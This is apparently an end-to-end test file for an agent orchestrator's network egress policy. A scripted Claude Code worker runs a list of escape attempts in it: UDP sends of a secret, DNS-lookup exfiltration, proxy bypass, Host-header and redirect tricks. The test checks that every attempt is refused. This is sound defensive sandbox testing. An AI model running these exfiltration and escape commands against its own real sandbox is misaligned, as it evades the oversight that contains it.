"""Egress, end to end on the real engine: a hostile agent under the default policy (plus one
host of the test's own, by --allow-host) tries every way out to servers of the test's own, and
each one is refused; the one allowed host answers through the proxy; the refusals are in the
task's records on the volume, in `orch status --json` and in the worker's log.

The agent is the real Claude Code of the worker image, scripted by the tests' API; its Bash tool
runs the attempts, and what they printed comes back through the API. The test prints one line,
``N attempts: N refused``, and fails on any other figure.
"""

from __future__ import annotations

import json
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from tests.support.commands import sh
from tests.support.end_to_end import Bridge, Run, start_manager
from tests.support.git_servers import GitServer
from tests.support.scripted_api import bash, text

SECRET = "exfil-7f3a9c"  # what the agent tries to carry out


@dataclass(frozen=True)
class Attempt:
    name: str
    command: str
    refused: Callable[[str], bool]  # judged on what the command printed


class Listener:
    """A TCP and a UDP listener of the test's own on every address of the host: what reached them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("0.0.0.0", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))
        self.reached: list[str] = []
        for target in (self._accept, self._receive):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, peer = self.tcp.accept()
            except OSError:
                return
            self.reached.append(f"tcp from {peer[0]}")
            conn.close()

    def _receive(self) -> None:
        while True:
            try:
                data, peer = self.udp.recvfrom(65535)
            except OSError:
                return
            self.reached.append(f"udp from {peer[0]}: {data[:60]!r}")

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@contextmanager
def allowed_server(redirect_to: str) -> Iterator[int]:
    """An HTTP server of the test's own, a host the policy adds; ``/redirect`` sends the client
    on to ``redirect_to``, outside the policy."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/redirect":
                self.send_response(302)
                self.send_header("Location", redirect_to)
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            body = b"allowed-answer\n"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    with serving(ThreadingHTTPServer(("0.0.0.0", 0), Handler)) as port:
        yield port


@contextmanager
def serving(server: ThreadingHTTPServer) -> Iterator[int]:
    """The server, from a thread, for as long as the block runs; its port."""
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def tls_server(tmp: Path) -> Iterator[int]:
    """An HTTPS server of the test's own, with a certificate of its own: a page, and a repository
    over git's HTTP protocol (dumb: static files). A host the policy adds, for the tools that
    go through the proxy with CONNECT."""
    cert, key, www, seed = tmp / "cert.pem", tmp / "key.pem", tmp / "www", tmp / "seed"
    sh("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=egress-test", "-days", "1",
       "-keyout", str(key), "-out", str(cert))  # fmt: skip
    www.mkdir()
    (www / "page.txt").write_text("tls-answer\n")
    sh("git", "init", "-q", "-b", "main", str(seed))
    (seed / "hello.txt").write_text("over-https\n")
    sh("git", "-C", str(seed), "add", "hello.txt")
    sh("git", "-C", str(seed), "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "hello")
    sh("git", "clone", "-q", "--bare", str(seed), str(www / "app.git"))
    sh("git", "-C", str(www / "app.git"), "update-server-info")

    class Handler(SimpleHTTPRequestHandler):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, directory=str(www), **kwargs)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("0.0.0.0", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    with serving(server) as port:
        yield port


def test_a_hostile_agent_reaches_only_its_policy(run: Run, git_server: GitServer, token_file: Path, bridge: Bridge,
                                                  tmp_path: Path):  # fmt: skip
    # The host's address on a network of the test's own: where the control plane (on the host's
    # network) reaches the test's servers, and what a worker would try for the host.
    host = bridge.gateway
    listener = Listener()
    try:
        with allowed_server(f"http://{host}:{listener.port}/") as allowed, tls_server(tmp_path) as tls:
            verdicts, outputs, extra = attack(run, git_server, token_file, host, listener.port, allowed, tls)
        reached = list(listener.reached)
    finally:
        listener.close()
    verdicts["nothing reached the test's listener"] = not reached
    outputs["nothing reached the test's listener"] = str(reached)
    refused = [name for name, ok in verdicts.items() if ok]
    line = f"{len(verdicts)} attempts: {len(refused)} refused"
    print(line)
    print(f"the task's connections at the proxy (orch status --json): {extra['counts']}")
    print(f"refused: {extra['refused_hosts']}")
    failures = {name: outputs.get(name, "") for name, ok in verdicts.items() if not ok}
    assert line == f"{len(verdicts)} attempts: {len(verdicts)} refused", f"{line}; not refused: {failures}"
    assert extra["allowed"], f"the allowed host did not answer through the proxy: {extra['allowed_output']}"
    # The ordinary tools, to an allowed host over HTTPS (CONNECT through the proxy): curl, git, and
    # Python's urllib (which pip's HTTP stack follows for the proxy variables). The worker image
    # has neither pip nor npm.
    assert extra["works"] == {"curl": True, "git over https": True, "python urllib": True}, extra["works_output"]
    assert extra["counts"]["refused"] >= 5 and extra["counts"]["allowed"] >= 1, extra["counts"]
    assert "egress: refused" in extra["worker_log"], extra["worker_log"][-3000:]
    # Claude Code's own traffic (update checks, telemetry) is turned off: it knocks on nothing.
    assert not [host for host in extra["refused_hosts"] if "anthropic.com" in host], extra["refused_hosts"]


def attack(run: Run, git_server: GitServer, token_file: Path, host: str, port: int,
           allowed: int, tls: int) -> tuple[dict[str, bool], dict[str, str], dict]:  # fmt: skip
    py = "python3 -c"
    attempts = [
        Attempt(
            "TCP to the test's listener by address",
            f"{py} 'import socket; socket.create_connection((\"{host}\", {port}), 5)' 2>&1 | tail -1",
            lambda out: "unreachable" in out or "refused" in out.lower(),
        ),
        Attempt(
            "TCP to the test's listener by name, past the proxy",
            f"curl -sS --noproxy '*' -m 10 http://host.docker.internal:{port}/ 2>&1",
            lambda out: "Could not resolve host" in out,
        ),
        Attempt(
            "UDP to the test's listener",
            f"{py} 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f's.sendto(b"{SECRET}", ("{host}", {port})); print("sent")\' 2>&1 | tail -1',
            lambda out: "unreachable" in out,
        ),
        Attempt(
            "IPv6 out",
            f"{py} 'import socket; socket.create_connection((\"2606:4700:4700::1111\", 443), 5)' 2>&1 | tail -1",
            lambda out: any(word in out for word in ("unreachable", "not supported", "Cannot assign")),
        ),
        Attempt(
            "DNS exfiltration (a lookup of a name carrying data)",
            f"getent hosts {SECRET}.example.com; echo rc=$?; "
            f"{py} 'import socket; socket.getaddrinfo(\"{SECRET}.example.org\", 443)' 2>&1 | tail -1",
            lambda out: "rc=2" in out and "gaierror" in out,
        ),
        Attempt(
            "CONNECT through the proxy to a host outside the policy",
            "curl -sS -m 20 https://example.com/ 2>&1",
            lambda out: "403" in out,
        ),
        Attempt(
            "CONNECT through the proxy to the test's listener",
            f'curl -sS -m 20 -p -x "$HTTP_PROXY" http://{host}:{port}/ 2>&1',
            lambda out: "403" in out,
        ),
        Attempt(
            "plain HTTP through the proxy to the test's listener, by name",
            f'curl -sS -m 20 -x "$HTTP_PROXY" http://host.docker.internal:{port}/ 2>&1; echo; '
            f"curl -sS -m 20 -x \"$HTTP_PROXY\" -o /dev/null -w 'http=%{{http_code}}' http://host.docker.internal:{port}/",
            lambda out: "http=403" in out,
        ),
        Attempt(
            "a Host header other than the CONNECT target",
            f"curl -sS -m 20 -p -x \"$HTTP_PROXY\" --proxy-header 'Host: {host}:{port}' http://{host}:{allowed}/ 2>&1",
            lambda out: "400" in out and "allowed-answer" not in out,
        ),
        Attempt(
            "a Host header other than the target of a plain request",
            f"curl -sS -m 20 -x \"$HTTP_PROXY\" -H 'Host: {host}:{port}' -o /dev/null -w 'http=%{{http_code}}' "
            f"http://{host}:{allowed}/ 2>&1",
            lambda out: "http=400" in out,
        ),
        Attempt(
            "a redirect from the allowed host to the test's listener",
            f"curl -sS -L -m 20 -o /dev/null -w 'http=%{{http_code}}' http://{host}:{allowed}/redirect 2>&1",
            lambda out: "http=403" in out,
        ),
        Attempt(
            "the proxy without the task's ticket",
            f"P=${{HTTP_PROXY#*@}}; curl -sS -m 20 -x \"http://$P\" -o /dev/null -w 'http=%{{http_code}}' "
            f"http://{host}:{allowed}/ 2>&1",
            lambda out: "http=407" in out,
        ),
    ]
    allowed_check = f'curl -sS -m 20 -x "$HTTP_PROXY" http://{host}:{allowed}/ 2>&1'
    unverified = "ssl._create_unverified_context()"  # the test's own certificate
    fetch_page = f"urllib.request.urlopen('https://{host}:{tls}/page.txt', context={unverified}, timeout=20)"
    works = {
        "curl": (f"curl -sS -k -m 20 https://{host}:{tls}/page.txt 2>&1", "tls-answer"),
        "git over https": (
            f"git -c http.sslVerify=false clone -q https://{host}:{tls}/app.git /tmp/over-https 2>&1 "
            "&& cat /tmp/over-https/hello.txt",
            "over-https",
        ),
        "python urllib": (
            f'python3 -c "import ssl, urllib.request; print({fetch_page}.read().decode())" 2>&1',
            "tls-answer",
        ),
    }
    repo = git_server.repo(f"egress-{run.id}")
    manager = start_manager(run, repo, token_file, "--allow-host", f"{host}:{allowed}", "--allow-host",
                            f"{host}:{tls}")  # fmt: skip
    try:
        hostile = run.task_id("hostile")
        turns = [bash("env | grep -ci _proxy=", "proxy variables")]
        turns += [bash(a.command, a.name) for a in attempts]
        turns += [bash(allowed_check, "the allowed host")]
        turns += [bash(command, name) for name, (command, _) in works.items()]
        turns += [text("done")]
        manager.orch("submit", "--id", hostile, "--prompt", run.prompt("hostile", *turns), "--start")
        manager.orch("wait", hostile, timeout=600)
        results = run.tool_results("hostile")
        status = json.loads(manager.orch("status", "--json").stdout)
        records = [json.loads(line) for line in run.read(f"egress/{hostile}.jsonl").splitlines() if line]
        worker_log = sh("docker", "logs", f"worker-{hostile}", check=False)
    finally:
        manager.remove()
    outputs = {a.name: results[index + 1] if index + 1 < len(results) else "" for index, a in enumerate(attempts)}
    verdicts = {a.name: a.refused(outputs[a.name]) for a in attempts}
    # Each attempt through the proxy is a refused record of the task's.
    refused_records = [r for r in records if r["decision"] == "refused"]
    verdicts["the proxy's refusals are recorded"] = len(refused_records) >= 5 and all(
        r["task"] in (hostile, None) for r in records
    )
    outputs["the proxy's refusals are recorded"] = json.dumps(records)[:3000]
    allowed_output = results[len(attempts) + 1] if len(results) > len(attempts) + 1 else ""
    works_output = {name: results[len(attempts) + 2 + index] if len(results) > len(attempts) + 2 + index else ""
                    for index, name in enumerate(works)}  # fmt: skip
    extra = {
        "works": {name: expected in works_output[name] for name, (_, expected) in works.items()},
        "works_output": works_output,
        "allowed": "allowed-answer" in allowed_output,
        "allowed_output": allowed_output,
        "counts": status.get("egress", {}).get(hostile, {"allowed": 0, "refused": 0}),
        "worker_log": worker_log.stdout + worker_log.stderr,
        "refused_hosts": sorted({f"{r['method']} {r['host']}" for r in refused_records}),
    }
    return verdicts, outputs, extra
